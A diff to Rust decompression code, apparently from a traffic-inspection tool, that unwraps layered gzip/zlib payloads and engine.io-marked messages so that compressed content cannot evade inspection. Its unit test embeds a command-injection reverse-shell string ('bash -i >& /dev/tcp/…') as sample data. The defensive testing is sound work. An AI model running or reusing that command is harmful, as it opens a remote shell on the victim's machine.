@@ -121,30 +121,56 @@ impl Inflater {
     }
 }
 
+/// Most layers of compression unwrapped from one payload (gzip of gzip).
+const MAX_LAYERS: usize = 3;
+
 /// A binary message an application compressed itself (market data feeds send gzip or zlib):
-/// what it inflates to, at most `limit` bytes. `Ok(None)` when it starts like neither format
-/// or is corrupt (then it is no compressed data, and is read as it is). A stream cut short
-/// gives what it inflated up to the cut, as a lenient reader would; gzip members that follow
-/// one another are read as one text, as gunzip, Python and Node read them.
+/// what it inflates to, at most `limit` bytes, layer after layer. `Ok(None)` when it starts
+/// like neither format or is corrupt from the start (then it is no compressed data, and is
+/// read as it is). A stream cut short or corrupt later, or with a wrong checksum, gives what it
+/// inflated up to there, as a streaming reader hands it out; gzip members that follow one
+/// another are read as one text, as gunzip, Python and Node read them.
 pub fn inflate_binary(input: &[u8], limit: usize) -> Result<Option<Vec<u8>>, InflateError> {
-    let mut reader: Box<dyn Read + '_> = if input.starts_with(&[0x1f, 0x8b, 0x08]) {
-        Box::new(MultiGzDecoder::new(input))
-    } else if zlib_header(input) {
-        Box::new(ZlibDecoder::new(input))
-    } else {
+    let mut inflated: Option<Vec<u8>> = None;
+    for _ in 0..MAX_LAYERS {
+        match inflate_layer(inflated.as_deref().unwrap_or(input), limit)? {
+            Some(out) => inflated = Some(out),
+            None => break,
+        }
+    }
+    Ok(inflated)
+}
+
+/// Whether `input` starts like gzip or zlib data.
+pub fn starts_compressed(input: &[u8]) -> bool {
+    compressed_body(input).is_some()
+}
+
+const GZIP_MAGIC: [u8; 3] = [0x1f, 0x8b, 0x08];
+
+/// The gzip or zlib data `input` is: itself, or what follows engine.io v3's binary marker
+/// (a 4, its message type).
+fn compressed_body(input: &[u8]) -> Option<&[u8]> {
+    let looks_compressed = |body: &[u8]| body.starts_with(&GZIP_MAGIC) || zlib_header(body);
+    [input, input.strip_prefix(&[4]).unwrap_or(&[])]
+        .into_iter()
+        .find(|body| looks_compressed(body))
+}
+
+fn inflate_layer(input: &[u8], limit: usize) -> Result<Option<Vec<u8>>, InflateError> {
+    let Some(body) = compressed_body(input) else {
         return Ok(None);
+    };
+    let mut reader: Box<dyn Read + '_> = if body.starts_with(&GZIP_MAGIC) {
+        Box::new(MultiGzDecoder::new(body))
+    } else {
+        Box::new(ZlibDecoder::new(body))
     };
     let mut out = Vec::new();
     let mut chunk = [0u8; CHUNK];
-    loop {
-        let read = match reader.read(&mut chunk) {
-            Ok(0) => break,
-            Ok(read) => read,
-            Err(e) if e.kind() == std::io::ErrorKind::UnexpectedEof => break,
-            Err(_) => return Ok(None),
-        };
+    while let Ok(read @ 1..) = reader.read(&mut chunk) {
         out.extend_from_slice(&chunk[..read]);
-        check_output(out.len(), input.len(), limit)?;
+        check_output(out.len(), body.len(), limit)?;
     }
     Ok((!out.is_empty()).then_some(out))
 }
@@ -335,6 +361,27 @@ mod tests {
                 Err(InflateError::Corrupt)
             );
         }
+    }
+
+    #[test]
+    fn layers_a_bad_checksum_and_the_engine_io_marker_do_not_hide_the_text() {
+        use flate2::write::GzEncoder;
+        use std::io::Write;
+        let gzip = |data: &[u8]| {
+            let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
+            encoder.write_all(data).unwrap();
+            encoder.finish().unwrap()
+        };
+        let text = b"; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1".to_vec();
+        let twice = gzip(&gzip(&text));
+        assert_eq!(inflate_binary(&twice, 1 << 20), Ok(Some(text.clone())));
+        let mut bad_crc = gzip(&text);
+        let crc_at = bad_crc.len() - 8;
+        bad_crc[crc_at] ^= 0xff;
+        assert_eq!(inflate_binary(&bad_crc, 1 << 20), Ok(Some(text.clone())));
+        let marked = [&[4][..], &gzip(&text)].concat();
+        assert!(starts_compressed(&marked));
+        assert_eq!(inflate_binary(&marked, 1 << 20), Ok(Some(text)));
     }
 
     #[test]
